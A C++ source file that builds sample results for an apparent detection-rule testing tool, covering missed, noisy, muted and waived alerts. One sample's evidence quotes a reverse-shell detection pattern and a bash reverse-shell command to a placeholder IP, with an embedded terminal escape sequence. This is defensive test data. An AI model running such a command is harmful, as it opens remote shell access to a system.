#include "report/sample_results.h"

#include <utility>

namespace drillcheck {
namespace {

using Mark = Evidence::Mark;

TestResult TestOf(const std::string& path, const std::string& test) {
  TestResult result;
  result.entry = "rule/" + path;
  result.test = test;
  result.path = "rules/" + path + ".yml";
  result.rule_id = "id-of-" + path.substr(path.rfind('/') + 1);
  result.at = {1, 1};
  return result;
}

TestResult Broken(Verdict verdict, const std::string& path, Position at,
                  const std::string& reason, const std::string& suggestion) {
  TestResult result = TestOf(path, "Loads");
  result.outcome = Outcome::kFail;
  result.verdict = verdict;
  result.rule_id = "";
  result.at = at;
  result.reason = reason;
  result.suggestion = suggestion;
  result.next = "drillcheck lint rules/" + path + ".yml";
  return result;
}

TestResult BrokenFixture() {
  TestResult result =
      Broken(Verdict::kBrokenFixture, "k8s/hostpath-mount", {7, 12},
             "no recording is called `pord`", "nearest: prod");
  result.path = "fixtures/k8s/hostpath-mount/fixture.yml";
  result.test = "HasFixture";
  return result;
}

TestResult Untested() {
  TestResult result = TestOf("okta/mfa-bypass", "HasFixture");
  result.outcome = Outcome::kFail;
  result.verdict = Verdict::kUntested;
  result.title = "Okta MFA bypass attempt";
  result.reason = "policy asks for a fixture below rules/okta";
  result.next = "drillcheck fixture new rules/okta/mfa-bypass.yml RECORDING";
  result.owner = "identity";
  return result;
}

TestResult Vacuous() {
  TestResult result = FailingTest("linux/curl-pipe", Verdict::kVacuous, "", "");
  result.reason =
      "none of the 214 events reaches the rule's log source linux/"
      "process_creation; they are linux/auditd";
  return result;
}

TestResult Muted() {
  TestResult result = FailingTest("windows/lsass-dump", Verdict::kMuted,
                                  "to fire", "a filter swallowed the drill");
  result.kind = "repo";
  result.at = {9, 1};
  result.evidence = {
      {0, Mark::kTrue, "selection", {14, 3}, ""},
      {0,
       Mark::kTrue,
       "not filter_backup_tool",
       {6, 5},
       "rules/windows/backup.filter.yml"},
  };
  result.owner = "endpoint";
  return result;
}

TestResult Missed() {
  TestResult result = FailingTest("linux/reverse-shell", Verdict::kMissed,
                                  "to fire on record 3", "stayed silent");
  result.record = "record 3 (line 3)";
  result.evidence = {
      {0, Mark::kFalse, "selection_shell and selection_redirect", {18, 14}, ""},
      {1, Mark::kTrue, "selection_shell", {11, 3}, ""},
      {2, Mark::kTrue, "Image|endswith: '/bash'", {12, 5}, ""},
      {1, Mark::kFalse, "selection_redirect", {13, 3}, ""},
      {2,
       Mark::kFalse,
       "CommandLine|contains|all: ['/dev/tcp/', '>&', '0>&1', 'exec 5<>', "
       "'cat <&5', 'while read line']",
       {14, 5},
       "is \"bash -c 'bash -i >& /dev/udp/198.51.100.7/443 0>&1' --rcfile "
       "/home/eve/.config/\x1b[2Jx\""},
  };
  return result;
}

TestResult Noisy() {
  TestResult result = FailingTest("aws/console-login", Verdict::kNoisy,
                                  "never to fire", "fired on record 5");
  result.test = "StaysQuiet/admin_tool";
  result.record = "record 5 (line 5)";
  result.evidence = {
      {0, Mark::kTrue, "selection", {10, 3}, ""},
      {1, Mark::kTrue, "eventName: ConsoleLogin", {11, 5}, ""},
      {0, Mark::kTrue, "not filter_admin", {13, 3}, ""},
      {1,
       Mark::kFalse,
       "userIdentity.type: Root",
       {14, 5},
       "is \"AssumedRole\""},
  };
  result.notes = {"recorded 2026-04-29 with stratus-red-team 2.36.0"};
  return result;
}

TestResult WrongField() {
  TestResult result =
      FailingTest("aws/secrets-read", Verdict::kWrongField,
                  "the alert to carry userIdentity.arn|contains: ':user/'",
                  "the alert lacks userIdentity.arn");
  result.suggestion = "add userIdentity.arn to `fields`";
  return result;
}

TestResult Removed() {
  TestResult result = TestOf("aws/trail-stopped", "NothingRemoved/rule");
  result.outcome = Outcome::kFail;
  result.verdict = Verdict::kRemoved;
  result.title = "CloudTrail trail stopped";
  result.expected = "the rule as in origin/main";
  result.got = "now there is none";
  result.notes = {"it is gone; the line is that of origin/main"};
  result.suggestion =
      "undo it; or merge this waiver first:\n"
      "- {rule: id-of-trail-stopped, allows: [removed]}";
  result.next = "git diff origin/main -- rules/aws/trail-stopped.yml";
  result.owner = "cloud";
  return result;
}

TestResult Weakened() {
  TestResult result = FailingTest("okta/admin-granted", Verdict::kWeakened,
                                  "to fire on record 2 as in origin/main",
                                  "now to fire at least once");
  result.test = "NothingWeakened/drill.fires";
  result.path = "fixtures/okta/admin-granted/fixture.yml";
  result.at = {7, 10};
  result.case_name = "";
  result.recording = "";
  result.reason = "it no longer matters which records fire";
  result.evidence = {{0,
                      Mark::kNone,
                      "before: to fire on record 2",
                      {6, 10},
                      "in origin/main"}};
  return result;
}

// A waiver that comes alone: it passes, with a verdict.
TestResult NewWaiver() {
  TestResult result;
  result.entry = "tree";
  result.test = "NothingWeakened/waivers.id-1.removed";
  result.path = "ci/waivers.yml";
  result.at = {3, 3};
  result.verdict = Verdict::kWeakened;
  result.expected = "no waiver as wide for id-1 as in origin/main";
  result.got = "now a waiver allows [removed] until 2026-12-31";
  result.notes = {"warning: it will count once this change is merged"};
  return result;
}

TestResult ExpiredWaiver() {
  TestResult result;
  result.entry = "tree";
  result.test = "Waivers";
  result.lane = "nightly";
  result.path = "ci/waivers.yml";
  result.at = {12, 3};
  result.outcome = Outcome::kFail;
  result.verdict = Verdict::kExpiredWaiver;
  result.reason = "the waiver for `missed` of SEC-12 ended on 2026-06-30";
  result.owner = "endpoint";
  return result;
}

TestResult Skipped(Outcome outcome, const std::string& path,
                   const std::string& reason) {
  TestResult result = TestOf(path, "Fires/drill");
  result.outcome = outcome;
  result.reason = reason;
  return result;
}

TestResult Forgiven(Outcome outcome, const std::string& path) {
  TestResult result =
      FailingTest(path, Verdict::kMissed, "to fire", "stayed silent");
  result.outcome = outcome;
  result.reason = "SEC-12 until 2026-12-31";
  result.owner = "endpoint";
  return result;
}

std::vector<TestResult> Failures() {
  return {
      Broken(Verdict::kBrokenRule, "aws/bucket-acl", {17, 14},
             "condition names `selecton`, which no search identifier is called",
             "nearest: selection"),
      BrokenFixture(),
      Untested(),
      Vacuous(),
      Muted(),
      DriftedExample(),
      Missed(),
      Noisy(),
      FailingTest("k8s/secret-list", Verdict::kWrongSeverity,
                  "severity critical", "fired with medium"),
      WrongField(),
      Removed(),
      Weakened(),
      ExpiredWaiver(),
  };
}

}  // namespace

TestResult DriftedExample() {
  TestResult result = FailingTest("aws/iam-user-creation", Verdict::kDrifted,
                                  "to fire", "stayed silent");
  result.test = "Fires/password_for_other_user";
  result.case_name = "password_for_other_user";
  result.title = "IAM login profile created for another user";
  result.at = {14, 7};
  result.record = "record 2 (line 2)";
  result.evidence = {
      {0, Mark::kNone, "selection", {11, 3}, ""},
      {1, Mark::kTrue, "eventName: CreateLoginProfile", {}, ""},
      {1,
       Mark::kFalse,
       "requestParameters.userIdentity|contains: ':user/'",
       {14, 7},
       "no such field in this event"},
  };
  result.suggestion =
      "nearest: userIdentity.arn = \"arn:aws:iam::…:user/eve\" (the value "
      "would match)";
  result.next =
      "drillcheck explain rules/aws/iam-user-creation.yml "
      "fixtures/aws/iam-user-creation/drill.jsonl:2";
  return result;
}

TestResult PassingTest(const std::string& path) {
  return TestOf(path, "Loads");
}

TestResult FailingTest(const std::string& path, Verdict verdict,
                       const std::string& expected, const std::string& got) {
  TestResult result = TestOf(path, "Fires/drill");
  result.outcome = Outcome::kFail;
  result.verdict = verdict;
  result.title = "Title of " + path;
  result.case_name = "drill";
  result.recording = "fixtures/" + path + "/drill.jsonl";
  result.expected = expected;
  result.got = got;
  result.next = "drillcheck explain " + result.path + " " + result.recording;
  return result;
}

Results SampleResults() {
  Results results;
  results.run = {"0.1.0", "2026-07-01T04:00:00Z", {"rules"}, {"fixtures"}, "",
                 ""};
  results.tests = {PassingTest("aws/iam-user-creation"),
                   PassingTest("aws/root-login")};
  results.tests[1].notes = {"the id is that of a template"};
  results.tests[1].warnings = {{Severity::kWarning,
                                "rules/aws/root-login.yml",
                                {3, 1},
                                "this rule has no tags, but there is 'tgas'",
                                "misspelt-key",
                                "did you mean 'tags'?"}};
  for (TestResult& failure : Failures()) {
    results.tests.push_back(std::move(failure));
  }
  std::string no_reader = "EVTX has no reader yet";
  results.tests.push_back(Skipped(Outcome::kNotReached, "aws/bucket-acl",
                                  "the rule does not load"));
  results.tests.push_back(
      Skipped(Outcome::kNotChecked, "windows/a", no_reader));
  results.tests.push_back(
      Skipped(Outcome::kNotChecked, "windows/b", no_reader));
  results.tests.push_back(Forgiven(Outcome::kKnownGap, "linux/curl-script"));
  results.tests.push_back(Forgiven(Outcome::kWaived, "linux/cron-drop"));
  results.tests.push_back(NewWaiver());
  results.not_selected = {3552, 71};
  return results;
}

}  // namespace drillcheck
